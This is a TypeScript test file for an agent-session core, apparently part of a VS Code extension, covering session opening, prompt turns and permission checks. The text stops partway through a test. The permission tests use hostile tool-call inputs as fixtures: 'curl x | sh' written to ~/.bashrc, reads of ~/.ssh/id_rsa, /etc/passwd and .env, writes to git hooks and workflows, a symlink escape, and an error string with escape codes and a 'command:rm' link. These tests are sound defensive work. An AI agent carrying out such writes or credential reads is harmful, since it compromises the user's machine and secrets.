// The session core in plain Node: its state machine, opening in every mode,
// prompt turns (end, failure, Stop, sign-in) and permissions — with stub
// runtimes, no VS Code.
import * as assert from 'node:assert/strict';
import { AgentCapabilityView } from '../../../src/acp/capabilities';
import { decodeClientRequest, decodePermissionRequest } from '../../../src/acp/clientRequests';
import { decodeSessionUpdate } from '../../../src/acp/decode';
import { AgentError, ConnectionClosedError, ErrorCodes, errorText } from '../../../src/acp/errors';
import type { AgentRuntime } from '../../../src/agents/agentRuntime';
import type { CancelToken } from '../../../src/agents/sessionRouter';
import { openSession, pastSessionMode, type OpenHost, type OpenMode } from '../../../src/sessions/openSession';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { DEFAULT_PROTECTED_PATHS, protectedMatcher } from '../../../src/node/protectedPaths';
import { Permissions } from '../../../src/sessions/parts/permissions';
import type { AutoApprove } from '../../../src/sessions/policy/permissionPolicy';
import { PromptTurns, type TurnHost } from '../../../src/sessions/promptTurn';
import { SessionState, statusOf, type SessionPhase } from '../../../src/sessions/sessionState';
import { Transcript, type Change } from '../../../src/sessions/transcript';
import { Emitter } from '../../../src/shared/events';
import { forMessage } from '../../../src/shared/nativeText';

/** A runtime with the given capabilities whose connection methods are the given functions. */
function stubRuntime(caps: object, connection: Record<string, (...a: any[]) => unknown>): AgentRuntime {
  return { capabilities: new AgentCapabilityView(caps as any), connection, initializeResult: { agentInfo: { name: 'stub', title: 'Stub Agent', version: '9.9' } } } as unknown as AgentRuntime;
}

/** Read through a call: TypeScript would narrow a getter across awaits and assertions. */
const phaseOf = (s: SessionState): SessionPhase['kind'] => s.phase.kind;
const statusNow = (s: SessionState) => s.status;

const neverCancelled: CancelToken = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose: () => undefined }) };

describe('session state machine', () => {
  it('shows one status per phase, and refuses transitions the machine does not allow', () => {
    const logged: string[] = [];
    const s = new SessionState('Agent X', (m) => logged.push(m));
    const seen: string[] = [];
    s.onDidChange((st) => seen.push(st.text));
    assert.equal(s.status.text, 'Not started.');
    assert.ok(s.set({ kind: 'starting' }));
    assert.deepEqual(s.status, { text: 'Starting Agent X…', busy: true, inputEnabled: false, actions: [] });
    // A turn cannot begin before the session is open.
    assert.equal(s.set({ kind: 'working' }), false);
    assert.equal(s.phase.kind, 'starting');
    assert.match(logged[0]!, /refused starting → working/);
    assert.ok(s.set({ kind: 'ready', text: 'Connected to X.' }));
    assert.ok(s.set({ kind: 'working' }));
    assert.deepEqual(s.status.actions, ['stop']);
    assert.ok(s.set({ kind: 'stopping' }));
    assert.ok(s.set({ kind: 'stuck', seconds: 10 }));
    assert.equal(statusNow(s).severity, 'error');
    assert.deepEqual(statusNow(s).actions, ['restart', 'showLog']);
    assert.deepEqual(seen, ['Starting Agent X…', 'Connected to X.', '', 'Stopping…', 'Agent X has not stopped 10 s after Stop. Restart it?']);
    assert.ok(s.set({ kind: 'stopping' }), 'Stop pressed again while stuck says "Stopping…" again');
  });

  it('offers Sign In instead of Restart when a failure needs it, and read-only archives offer a new session', () => {
    assert.deepEqual(statusOf({ kind: 'failed', text: 'x', needsAuth: true }, 'A').actions, ['signIn', 'showLog']);
    assert.deepEqual(statusOf({ kind: 'failed', text: 'x' }, 'A').actions, ['restart', 'showLog']);
    const ro = statusOf({ kind: 'readOnly', text: 'Read-only.' }, 'A');
    assert.deepEqual([ro.inputEnabled, ro.actions], [false, ['newSession']]);
    // The agent failed to open it (not "not found"): the archive is read-only, and the agent may be asked again.
    const retry = statusOf({ kind: 'readOnly', text: 'A could not load this session (locked).', error: true, retry: true }, 'A');
    assert.deepEqual([retry.inputEnabled, retry.actions, retry.severity], [false, ['retry', 'newSession', 'showLog'], 'error']);
    const s = new SessionState('A');
    for (const k of ['loading', 'failed', 'readOnly', 'loading'] as const) assert.ok(s.set(k === 'failed' || k === 'readOnly' ? { kind: k, text: 'x' } : { kind: k }), `→ ${k}`);
    assert.equal(statusOf({ kind: 'needsSignIn' }, 'A').inputEnabled, true, 'the prompt can be retried after signing in');
  });
});

/** An OpenHost that records what happened, in order. */
function openHost(rt: AgentRuntime, opts: { needsSignIn?: boolean } = {}) {
  const events: string[] = [];
  const phases: SessionPhase[] = [];
  const host: OpenHost = {
    agentName: 'Stub',
    setPhase: (p) => void phases.push(p),
    withAuth: (fn) => fn(rt),
    sessionParams: async () => {
      events.push('params');
      return { cwd: '/ws', mcpServers: [] };
    },
    resetTranscript: () => void events.push('reset'),
    attach: (_rt, id) => void events.push(`attach ${id}`),
    detach: () => void events.push('detach'),
    opened: (_rt, r) => void events.push(`opened ${r.sessionId}${r.modes ? ' with modes' : ''}`),
    explain: async (err) => `explained: ${(err as Error).message}`,
    needsSignIn: () => opts.needsSignIn ?? false,
  };
  return { host, events, phases };
}

describe('opening a session: one sequence for new, load and resume', () => {
  const calls: string[] = [];
  const rt = stubRuntime(
    { loadSession: true, sessionCapabilities: { resume: {} } },
    {
      newSession: async () => ({ sessionId: 's-new', modes: { currentModeId: 'a', availableModes: [] } }),
      loadSession: async (p: { sessionId: string }) => {
        calls.push(`load ${p.sessionId}`);
        if (p.sessionId === 'gone') throw new AgentError('session/load', ErrorCodes.ResourceNotFound, 'no such session');
        return null;
      },
      drainSession: async (id: string) => void calls.push(`drain ${id}`),
      replayCut: () => false,
      resumeSession: async (p: { sessionId: string }) => {
        if (p.sessionId === 'gone') throw new AgentError('session/resume', ErrorCodes.ResourceNotFound, 'no such session');
        return {};
      },
    },
  );

  it('new: attaches once the agent names the session, then shows what it is connected to', async () => {
    const { host, events, phases } = openHost(rt);
    assert.equal(await openSession(host, { kind: 'new' }), 'opened');
    assert.deepEqual(events, ['params', 'attach s-new', 'opened s-new with modes']);
    assert.deepEqual(phases, [{ kind: 'starting' }, { kind: 'ready', text: 'Connected to Stub Agent 9.9.' }]);
  });

  it('load: a fresh transcript, attached before the call (the replay arrives during it), drained before it counts as open', async () => {
    const { host, events, phases } = openHost(rt);
    calls.length = 0;
    assert.equal(await openSession(host, { kind: 'load', sessionId: 's1' }), 'opened');
    assert.deepEqual(events, ['reset', 'attach s1', 'params', 'opened s1']);
    assert.deepEqual(calls, ['load s1', 'drain s1']);
    assert.equal(phases[0]!.kind, 'loading');
  });

  it('"not found" detaches: a load shows notFound, a resume leaves the archive read-only', async () => {
    const load = openHost(rt);
    assert.equal(await openSession(load.host, { kind: 'load', sessionId: 'gone' }), 'not-found');
    assert.deepEqual(load.events.slice(-1), ['detach']);
    assert.equal(load.phases.at(-1)!.kind, 'notFound');
    const resume = openHost(rt);
    assert.equal(await openSession(resume.host, { kind: 'resume', sessionId: 'gone' }), 'not-found');
    assert.deepEqual(resume.phases.at(-1), { kind: 'readOnly', text: 'This session no longer exists on the agent. The archive above is read-only.', error: true });
  });

  it('refuses a mode the agent does not advertise, and says why; a failure that needs sign-in offers it', async () => {
    const bare = stubRuntime({}, { newSession: async () => ({ sessionId: 'x' }) });
    const { host, phases, events } = openHost(bare, { needsSignIn: true });
    assert.equal(await openSession(host, { kind: 'resume', sessionId: 's1' } as OpenMode), 'failed');
    assert.deepEqual(phases.at(-1), { kind: 'failed', text: 'explained: Stub cannot resume past sessions (it does not advertise sessionCapabilities.resume).', needsAuth: true });
    assert.ok(!events.some((e) => e.startsWith('attach')), 'nothing was attached');
  });

  it("an agent's error says its own reason, from data as agents send it, cleaned and bounded", () => {
    const e = (message: string, data?: unknown) => errorText(new AgentError('session/load', ErrorCodes.InternalError, message, data));
    // The TypeScript SDK: any thrown error becomes "Internal error" with { details }.
    assert.equal(e('Internal error', { details: 'Cannot connect to API' }), 'Cannot connect to API');
    // Rust agents: a string; others: { message }, or a provider's { error: { message } }.
    assert.equal(e('Internal error', 'session file is corrupt'), 'session file is corrupt');
    assert.equal(e('Internal error', { message: 'quota exceeded' }), 'quota exceeded');
    assert.equal(e('Internal error', { error: { message: 'model overloaded', code: 529 } }), 'model overloaded');
    // A message of its own stays, the data's reason follows it; nothing said twice.
    assert.equal(e('Load failed', { details: 'disk full' }), 'Load failed: disk full');
    assert.equal(e('Cannot connect to API', { details: 'Cannot connect to API' }), 'Cannot connect to API');
    assert.equal(e('Internal error'), 'Internal error');
    assert.equal(e('', { sessionId: 'x' }), 'internal error');
    // Untrusted: no escape sequences, controls or bidi overrides; bounded. Line breaks and link syntax
    // stay as text for the panel (which renders text); native UI breaks links where it puts them (forMessage).
    const evil = e('Internal error', { details: 'locked\u202e by [x](command:rm) \u001b[31mpid\u001b[0m\r\nline two\u0007' });
    assert.doesNotMatch(evil, /[\u0000-\u0009\u000b-\u001f\u202e]/);
    assert.equal(evil, 'locked by [x](command:rm) pid\nline two');
    assert.equal(forMessage(evil), 'locked by [x]\u200b(command\u200b:rm) pid\nline two', 'and forMessage still breaks it for a notification');
    assert.ok(e('Internal error', { details: 'x'.repeat(50_000) }).length <= 4000);
  });

  it('a panel closed while the load is being prepared sends no session/load, and shows nothing', async () => {
    const sent: string[] = [];
    const r = stubRuntime({ loadSession: true }, { loadSession: async (p: { sessionId: string }) => void sent.push(`load ${p.sessionId}`), drainSession: async () => undefined, replayCut: () => false });
    const { host, events, phases } = openHost(r);
    const abandon = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose() {} }) };
    Object.assign(host, { abandon, sessionParams: async () => ((abandon.isCancellationRequested = true), { cwd: '/ws', mcpServers: [] }) });
    assert.equal(await openSession(host, { kind: 'load', sessionId: 's1' }), 'failed');
    assert.deepEqual(sent, [], 'nothing was sent');
    assert.deepEqual(events, ['reset', 'attach s1', 'detach']);
    assert.deepEqual(
      phases.map((p) => p.kind),
      ['loading'],
      'no failure shown for a panel that is gone',
    );
  });

  it('a load withdrawn but carried out is closed on the agent before the next open of that session, which waits for it', async () => {
    const sent: string[] = [];
    let release!: () => void;
    const firstLoad = new Promise<void>((r) => (release = r));
    let loads = 0;
    const r = stubRuntime(
      { loadSession: true, sessionCapabilities: { close: {} } },
      {
        loadSession: async (p: { sessionId: string }) => {
          sent.push(`load ${p.sessionId}`);
          if (++loads === 1) await firstLoad;
          else if (!sent.includes(`close ${p.sessionId}`)) throw new AgentError('session/load', ErrorCodes.InvalidParams, `Session ${p.sessionId} is already loaded`);
          return null;
        },
        drainSession: async () => undefined,
        replayCut: () => false,
        closeSession: async (id: string) => void sent.push(`close ${id}`),
      },
    );
    const first = openHost(r);
    const abandon = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose() {} }) };
    Object.assign(first.host, { abandon });
    const firstOpen = openSession(first.host, { kind: 'load', sessionId: 's1' });
    await new Promise((res) => setImmediate(res));
    assert.deepEqual(sent, ['load s1']);
    // The panel closes while the agent replays; a new panel opens the same session at once.
    abandon.isCancellationRequested = true;
    const second = openHost(r);
    const secondOpen = openSession(second.host, { kind: 'load', sessionId: 's1' });
    await new Promise((res) => setImmediate(res));
    assert.deepEqual(sent, ['load s1'], 'the second load waits for the first');
    release();
    assert.equal(await firstOpen, 'failed');
    assert.equal(await secondOpen, 'opened', JSON.stringify(second.phases));
    assert.deepEqual(sent, ['load s1', 'close s1', 'load s1']);
    assert.deepEqual(second.phases.at(-1), { kind: 'ready', text: 'Connected to Stub Agent 9.9.' });
  });

  it('a past session is loaded, else resumed, else shown from the archive', () => {
    assert.equal(pastSessionMode(new AgentCapabilityView({ loadSession: true, sessionCapabilities: { resume: {} } } as any)), 'load');
    assert.equal(pastSessionMode(new AgentCapabilityView({ sessionCapabilities: { resume: {} } } as any)), 'resume');
    assert.equal(pastSessionMode(new AgentCapabilityView({ loadSession: false } as any)), 'archive');
  });
});

/** A TurnHost over a real Transcript and SessionState. */
function turnHost(rt: AgentRuntime | undefined) {
  const state = new SessionState('Stub');
  state.set({ kind: 'starting' });
  state.set({ kind: 'ready', text: '' });
  const transcript = new Transcript();
  const log: string[] = [];
  const changes: Change[] = [];
  let current = rt;
  const host: TurnHost = {
    agentName: 'Stub',
    runtime: () => current,
    sessionId: () => (current ? 's1' : undefined),
    transcript: () => transcript,
    emit: (c) => void changes.push(...c),
    phase: () => state.phase,
    setPhase: (p) => void state.set(p),
    cancelPermissions: () => void log.push('permissions cancelled'),
    explain: async () => 'Stub exited with code 3.',
    detach: () => {
      current = undefined;
      log.push('detach');
    },
    signInToAnswer: (_reason, prompt) => void log.push(`sign in, then "${prompt}"`),
    log: (m) => void log.push(m),
  };
  return { host, state, transcript, log, changes };
}

describe('prompt turns', () => {
  it('a turn ends with its stop reason and the composer comes back', async () => {
    let finish!: (r: { stopReason: string }) => void;
    const rt = stubRuntime({}, { prompt: () => new Promise((r) => (finish = r)) });
    const { host, state, log } = turnHost(rt);
    const turns = new PromptTurns(host);
    turns.onDidBegin(() => log.push('began'));
    turns.onDidEnd((e) => log.push(`ended ${e.sessionId} ${e.stopReason ?? '-'}`));
    const done = turns.send(rt, 's1', 'hi', [{ type: 'text', text: 'hi' }]);
    assert.equal(turns.busy, true);
    assert.equal(phaseOf(state), 'working');
    finish({ stopReason: 'end_turn' });
    assert.equal(await done, 'end_turn');
    assert.equal(turns.busy, false);
    assert.deepEqual(state.status, { text: '', busy: false, inputEnabled: true, actions: [] });
    assert.deepEqual(log, ['began', 'permissions cancelled', 'ended s1 end_turn']);
  });

  it("claude-agent-acp's late answer after a Stop (quirk): an empty end_turn right after a cancelled turn is explained; not for other agents or a turn with content", async () => {
    const run = async (name: string, content: boolean) => {
      const reasons = ['cancelled', 'end_turn'];
      const rt = stubRuntime({}, { prompt: async () => ({ stopReason: reasons.shift()! }) });
      (rt.initializeResult as { agentInfo: object }).agentInfo = { name, version: '0.23.1' };
      const { host, transcript, log } = turnHost(rt);
      const turns = new PromptTurns(host);
      await turns.send(rt, 's1', 'first', []);
      const second = turns.send(rt, 's1', 'second', []);
      if (content) transcript.addLocalNotice('info', 'something the agent said');
      await second;
      return { notices: transcript.items.filter((i) => i.kind === 'notice' && i.title.includes('without an answer')), log };
    };
    const late = await run('@zed-industries/claude-agent-acp', false);
    assert.equal(late.notices.length, 1);
    assert.ok(late.log.some((l) => l.includes('claude-agent-acp/issues/551')), late.log.join('\n'));
    assert.equal((await run('some-other-agent', false)).notices.length, 0);
    assert.equal((await run('@zed-industries/claude-agent-acp', true)).notices.length, 0);
  });

  it('an agent that exits mid-turn: the session detaches and says how it ended', async () => {
    const rt = stubRuntime({}, { prompt: async () => Promise.reject(new ConnectionClosedError('session/prompt')) });
    const { host, state, log } = turnHost(rt);
    assert.equal(await new PromptTurns(host).send(rt, 's1', 'hi', []), undefined);
    assert.deepEqual(state.phase, { kind: 'failed', text: 'Stub exited with code 3.' });
    assert.ok(log.includes('detach'));
  });

  it('"authentication required" mid-turn offers sign-in, then the same prompt again', async () => {
    const rt = stubRuntime({}, { prompt: async () => Promise.reject(new AgentError('session/prompt', ErrorCodes.AuthRequired, 'log in first')) });
    const { host, state, log, transcript } = turnHost(rt);
    await new PromptTurns(host).send(rt, 's1', 'fix it', []);
    assert.equal(phaseOf(state), 'needsSignIn');
    assert.ok(log.includes('sign in, then "fix it"'));
    const err = transcript.items.find((i) => i.kind === 'error');
    assert.equal(err?.kind === 'error' ? err.retryPrompt : undefined, 'fix it');
  });

  it('Stop sends session/cancel once, withdraws permissions, and offers Restart when the agent does not stop in time', async () => {
    const cancels: string[] = [];
    let finish!: (r: { stopReason: string }) => void;
    const rt = stubRuntime({}, { prompt: () => new Promise((r) => (finish = r)), cancel: async (id: string) => void cancels.push(id) });
    const { host, state, log } = turnHost(rt);
    const turns = new PromptTurns(host, 30);
    const done = turns.send(rt, 's1', 'long', []);
    await turns.cancel();
    assert.deepEqual(cancels, ['s1']);
    assert.equal(phaseOf(state), 'stopping');
    assert.ok(log.includes('permissions cancelled'));
    await new Promise((r) => setTimeout(r, 60));
    assert.equal(phaseOf(state), 'stuck');
    finish({ stopReason: 'cancelled' });
    assert.equal(await done, 'cancelled');
    assert.equal(phaseOf(state), 'ready');
  });

  it('a turn is claimed before its prompt is built: a second claim is refused until it is sent and ended, or given back', async () => {
    const prompts: string[] = [];
    const cancels: string[] = [];
    let finish!: (r: { stopReason: string }) => void;
    const rt = stubRuntime({}, { prompt: (p: { prompt: { text: string }[] }) => (prompts.push(p.prompt[0]!.text), new Promise((r) => (finish = r))), cancel: async (id: string) => void cancels.push(id) });
    const { host } = turnHost(rt);
    const turns = new PromptTurns(host);
    const first = turns.claim();
    assert.ok(first);
    assert.equal(turns.busy, true, 'busy from the claim on, before anything is sent');
    assert.equal(turns.claim(), undefined, 'a second prompt in the same tick gets no turn');
    // Building the prompt takes a while (file reads); the claim still holds.
    await new Promise((r) => setTimeout(r, 10));
    assert.equal(turns.claim(), undefined);
    const done = turns.send(rt, 's1', 'one', [{ type: 'text', text: 'one' }]);
    turns.release(first); // after send took it over: nothing
    assert.equal(turns.busy, true);
    assert.equal(turns.claim(), undefined, 'no claim while the turn runs');
    finish({ stopReason: 'end_turn' });
    await done;
    assert.equal(turns.busy, false);
    assert.deepEqual(prompts, ['one']);

    // A claim given back (building the prompt failed) frees the turn.
    const failed = turns.claim()!;
    turns.release(failed);
    assert.equal(turns.busy, false);

    // Stop while the prompt is being built: the turn is stopped as soon as it is sent.
    turns.claim();
    await turns.cancel();
    assert.deepEqual(cancels, [], 'nothing to cancel on the wire yet');
    const stopped = turns.send(rt, 's1', 'two', [{ type: 'text', text: 'two' }]);
    await new Promise((r) => setTimeout(r, 0));
    assert.deepEqual(cancels, ['s1']);
    finish({ stopReason: 'cancelled' });
    assert.equal(await stopped, 'cancelled');
  });
});

/** The session's folder in these tests (it need not exist). */
const WS = path.resolve('/ws');

function permissionHost(opts: { autoApprove?: AutoApprove; protectedGlob?: (f: string) => string | undefined; protectedGlobs?: readonly string[]; sessionId?: string; ws?: string } = {}) {
  const transcript = new Transcript();
  const log: string[] = [];
  const permissions = new Permissions({
    agentId: 'a1',
    sessionId: () => opts.sessionId ?? 's1',
    transcript: () => transcript,
    emit: () => undefined,
    autoApprove: () => opts.autoApprove ?? 'never',
    protectedGlob: opts.protectedGlob ?? (() => undefined),
    // With a protected-path matcher, the default globs are in force (what the matcher was made of).
    protectedGlobs: () => opts.protectedGlobs ?? (opts.protectedGlob ? DEFAULT_PROTECTED_PATHS : []),
    roots: () => [opts.ws ?? WS],
    cwd: () => opts.ws ?? WS,
    log: (m) => void log.push(m),
  });
  return { transcript, permissions, log };
}

const OPTIONS = [
  { optionId: 'once', name: 'Allow', kind: 'allow_once' },
  { optionId: 'always', name: 'Always', kind: 'allow_always' },
  { optionId: 'no', name: 'Reject', kind: 'reject_once' },
];

function request(toolCall: object, options: object[] = OPTIONS) {
  return decodePermissionRequest({ sessionId: 's1', toolCall, options }).value;
}

describe('permissions: a request is a state of its tool call', () => {
  it('is shown on its tool call, answered once by the user; a second answer or an unknown option is ignored', async () => {
    const { transcript, permissions } = permissionHost();
    transcript.apply({ sessionUpdate: 'tool_call', toolCallId: 't1', title: 'Edit a.ts', kind: 'edit', status: 'pending' } as any);
    const answer = permissions.request(request({ toolCallId: 't1' }), neverCancelled);
    await Promise.resolve();
    const item = transcript.items.find((i) => i.kind === 'permission');
    assert.ok(item && item.kind === 'permission');
    assert.equal(item.toolCallId, 't1');
    assert.equal(permissions.answer(item.id, 'made-up'), false);
    assert.equal(permissions.answer(item.id, 'once'), true);
    assert.equal(permissions.answer(item.id, 'no'), false);
    assert.deepEqual(await answer, { outcome: { outcome: 'selected', optionId: 'once' } });
    assert.equal(permissions.waiting, 0);
  });

  it('"allow always" covers the same named tool later in the session, never a protected path', async () => {
    const { transcript, permissions } = permissionHost({ protectedGlob: (f) => (f.includes('/.git/') ? '.git/**' : undefined) });
    transcript.apply({ sessionUpdate: 'tool_call', toolCallId: 't1', title: 'Edit', kind: 'edit', status: 'pending', name: 'write', locations: [{ path: '/ws/a.ts' }] } as any);
    const first = permissions.request(request({ toolCallId: 't1' }), neverCancelled);
    await Promise.resolve();
    permissions.answer(transcript.items.find((i) => i.kind === 'permission')!.id, 'always');
    await first;
    transcript.apply({ sessionUpdate: 'tool_call', toolCallId: 't2', title: 'Edit b', kind: 'edit', status: 'pending', name: 'write', locations: [{ path: 'b.ts' }] } as any);
    assert.deepEqual(await permissions.request(request({ toolCallId: 't2' }), neverCancelled), { outcome: { outcome: 'selected', optionId: 'always' } });
    transcript.apply({ sessionUpdate: 'tool_call', toolCallId: 't3', title: 'Edit hook', kind: 'edit', status: 'pending', name: 'write', locations: [{ path: '/ws/.git/hooks/pre-commit' }] } as any);
    const third = permissions.request(request({ toolCallId: 't3' }), neverCancelled);
    await Promise.resolve();
    assert.equal(permissions.waiting, 1, 'the protected write is asked about');
    permissions.cancelAll();
    assert.deepEqual(await third, { outcome: { outcome: 'cancelled' } });
  });

  it('auto-approval picks an allow option per the setting, and never one of unknown kind', async () => {
    const { transcript, permissions } = permissionHost({ autoApprove: 'read' });
    transcript.apply({ sessionUpdate: 'tool_call', toolCallId: 'r1', title: 'Read', kind: 'read', status: 'pending' } as any);
    assert.deepEqual(await permissions.request(request({ toolCallId: 'r1' }), neverCancelled), { outcome: { outcome: 'selected', optionId: 'once' } });
    transcript.apply({ sessionUpdate: 'tool_call', toolCallId: 'r2', title: 'Read', kind: 'read', status: 'pending' } as any);
    const odd = permissions.request(request({ toolCallId: 'r2' }, [{ optionId: 'yes', name: 'Yes' }]), neverCancelled);
    await Promise.resolve();
    assert.equal(permissions.waiting, 1, 'an option without a kind is shown, not taken');
    permissions.cancelAll();
    await odd;
  });

  it('the end of a turn withdraws the session’s own requests, not its subagents’ (Stop withdraws both)', async () => {
    const { permissions, transcript } = permissionHost();
    transcript.apply(decodeSessionUpdate({ sessionUpdate: 'subagent_update', sessionId: 'child' }, []));
    const never: CancelToken = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose() {} }) };
    const own = permissions.request(request({ toolCallId: 'x', title: 'Run' }), never);
    const childs = permissions.request({ ...request({ toolCallId: 'y', title: 'Child run' }), sessionId: 'child' }, never, 'child');
    await Promise.resolve();
    permissions.cancelAll('the turn ended', true);
    assert.deepEqual(await own, { outcome: { outcome: 'cancelled' } });
    assert.equal(permissions.waiting, 1, 'the subagent still waits for its answer');
    permissions.cancelAll('the turn was stopped');
    assert.deepEqual(await childs, { outcome: { outcome: 'cancelled' } });
  });

  it('the agent withdrawing the request ($/cancel_request) closes the prompt and answers -32800', async () => {
    const { permissions } = permissionHost();
    const withdraw = new Emitter<void>();
    const token: CancelToken = { isCancellationRequested: false, onCancellationRequested: (l) => withdraw.event(l) };
    const pending = permissions.request(request({ toolCallId: 'x', title: 'Run' }), token);
    await Promise.resolve();
    withdraw.fire();
    await assert.rejects(pending, (e: { code: number }) => e.code === -32800);
    assert.equal(permissions.waiting, 0);
  });
});

/** Announces a tool call and asks for permission for it: the option answered automatically, or "asked" (then withdrawn). */
async function decide(host: ReturnType<typeof permissionHost>, call: Record<string, unknown>): Promise<string> {
  host.transcript.apply({ sessionUpdate: 'tool_call', status: 'pending', title: 'Tool', ...call } as any);
  const before = host.permissions.waiting;
  const answer = host.permissions.request(request({ toolCallId: call.toolCallId }), neverCancelled);
  if (host.permissions.waiting > before) {
    host.permissions.cancelAll();
    await answer;
    return 'asked';
  }
  const r = await answer;
  return r.outcome.outcome === 'selected' ? r.outcome.optionId : r.outcome.outcome;
}

/** Answers the one waiting request "always" (the call is asked first). */
async function answerAlways(host: ReturnType<typeof permissionHost>, call: Record<string, unknown>): Promise<void> {
  host.transcript.apply({ sessionUpdate: 'tool_call', status: 'pending', title: 'Tool', ...call } as any);
  const answer = host.permissions.request(request({ toolCallId: call.toolCallId }), neverCancelled);
  const item = host.transcript.items.find((i) => i.kind === 'permission' && i.state === 'pending');
  assert.ok(item, 'asked first');
  assert.equal(host.permissions.answer(item.id, 'always'), true);
  assert.deepEqual(await answer, { outcome: { outcome: 'selected', optionId: 'always' } });
}

describe('permissions: every path a tool call names is checked before an automatic answer', () => {
  const realProtected = () => {
    const match = protectedMatcher(DEFAULT_PROTECTED_PATHS);
    return (f: string) => match(f, [WS]);
  };

  it('a relative .vscode/settings.json location is asked under "edits" (resolved against the cwd); a plain edit inside is still approved', async () => {
    const host = permissionHost({ autoApprove: 'edits', protectedGlob: realProtected() });
    assert.equal(await decide(host, { toolCallId: 'e1', kind: 'edit', name: 'write', locations: [{ path: '.vscode/settings.json' }] }), 'asked');
    assert.ok(host.log.some((l) => /"\.vscode\/settings\.json" \(locations\) resolves to .*settings\.json, a protected path \(\.vscode\/\*\*\)/.test(l)), host.log.join('\n'));
    assert.equal(await decide(host, { toolCallId: 'e2', kind: 'edit', name: 'write', locations: [{ path: 'src/app.ts' }], rawInput: { file_path: 'src/app.ts', content: 'x' } }), 'once');
    assert.equal(await decide(host, { toolCallId: 'e3', kind: 'edit', name: 'write', locations: [{ path: '/ws/./src/../README.md' }] }), 'once');
  });

  it('a .. after a link in the folder leads where the file system says (the link target\'s parent): asked', async () => {
    // A repository may hold a relative link; "l/../.bashrc" is then beside the link's target, not beside the link.
    const ws = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'perm-ws-')));
    const elsewhere = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'perm-out-')));
    fs.mkdirSync(path.join(elsewhere, 'config'));
    fs.symlinkSync(path.join(elsewhere, 'config'), path.join(ws, 'l'));
    const host = permissionHost({ autoApprove: 'edits', ws });
    assert.equal(await decide(host, { toolCallId: 'd1', kind: 'edit', name: 'write', locations: [{ path: 'l/../.bashrc' }] }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'd2', kind: 'edit', name: 'write', rawInput: { file_path: `${ws}/l/../.bashrc` } }), 'asked');
    assert.ok(host.log.some((l) => l.includes(`resolves to ${path.join(elsewhere, '.bashrc')}, outside the session's folders`)), host.log.join('\n'));
    assert.equal(await decide(host, { toolCallId: 'd3', kind: 'edit', name: 'write', locations: [{ path: 'src/../README.md' }] }), 'once');
  });

  it('~/.bashrc in rawInput is outside the folders: asked', async () => {
    const host = permissionHost({ autoApprove: 'edits' });
    assert.equal(await decide(host, { toolCallId: 'h1', kind: 'edit', name: 'write', rawInput: { file_path: '~/.bashrc', content: 'curl x | sh' } }), 'asked');
    assert.ok(host.log.some((l) => l.includes(`"~/.bashrc" (rawInput.file_path) resolves to ${path.join(os.homedir(), '.bashrc')}, outside the session's folders`)), host.log.join('\n'));
  });

  it('an apply_patch body touching .github/workflows/x.yml is asked, in an edit or in an execute of apply_patch', async () => {
    const patch = '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-a\n+b\n*** Add File: .github/workflows/x.yml\n+on: push\n*** End Patch';
    const host = permissionHost({ autoApprove: 'all', protectedGlob: realProtected() });
    assert.equal(await decide(host, { toolCallId: 'p1', kind: 'edit', name: 'apply_patch', rawInput: { input: patch } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'p2', kind: 'execute', name: 'shell', rawInput: { command: ['apply_patch', patch] } }), 'asked');
    const diff = '--- a/src/a.ts\n+++ b/.github/workflows/x.yml\n@@ -1 +1 @@\n-a\n+b\n';
    assert.equal(await decide(host, { toolCallId: 'p3', kind: 'edit', name: 'patch', rawInput: { diff } }), 'asked');
  });

  it('an ACP v2 diff naming a protected path is asked (its path, or the path it moved from); one inside is approved', async () => {
    const host = permissionHost({ autoApprove: 'edits', protectedGlob: realProtected() });
    const patch = (path: string, oldPath?: string) => ({ type: '_patch', path, ...(oldPath ? { oldPath } : {}), operation: oldPath ? 'move' : 'modify', hunks: [] });
    assert.equal(await decide(host, { toolCallId: 'v1', kind: 'edit', name: 'Edit', content: [patch('/ws/.github/workflows/x.yml')] }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'v2', kind: 'move', name: 'Move', content: [patch('/ws/b.txt', '/ws/.vscode/settings.json')] }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'v3', kind: 'edit', name: 'Edit', content: [patch('/ws/src/a.ts')] }), 'once');
  });

  it('a move whose destination is outside the folders is asked', async () => {
    const host = permissionHost({ autoApprove: 'edits' });
    assert.equal(await decide(host, { toolCallId: 'm1', kind: 'move', name: 'mv', locations: [{ path: '/ws/a.txt' }], rawInput: { source: '/ws/a.txt', destination: '/tmp/a.txt' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'm2', kind: 'move', name: 'mv', rawInput: { old_path: 'a.txt', new_path: '../outside/a.txt' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'm3', kind: 'move', name: 'mv', rawInput: { old_path: 'a.txt', new_path: 'b/a.txt' } }), 'once');
  });

  it('an edit, delete or move with no path we can find is asked (cannot tell); a read with none is not', async () => {
    const host = permissionHost({ autoApprove: 'edits' });
    assert.equal(await decide(host, { toolCallId: 'n1', kind: 'edit', name: 'write', rawInput: { content: 'x' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'n2', kind: 'delete' }), 'asked');
    assert.ok(host.log.some((l) => l.includes('it names no path')), host.log.join('\n'));
    assert.equal(await decide(host, { toolCallId: 'n3', kind: 'search', name: 'grep', rawInput: { pattern: 'TODO' } }), 'once');
  });

  it('reading ~/.ssh/id_rsa is never automatic under "read", nor reading a protected path inside (.env, .vscode/)', async () => {
    const host = permissionHost({ autoApprove: 'read', protectedGlob: realProtected() });
    assert.equal(await decide(host, { toolCallId: 'r1', kind: 'read', name: 'read', locations: [{ path: '~/.ssh/id_rsa' }] }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'r2', kind: 'read', name: 'read', rawInput: { path: '/etc/passwd' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'r3', kind: 'read', name: 'read', rawInput: { path: '.vscode/settings.json' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'r4', kind: 'read', name: 'read', rawInput: { path: '.env.local' } }), 'asked');
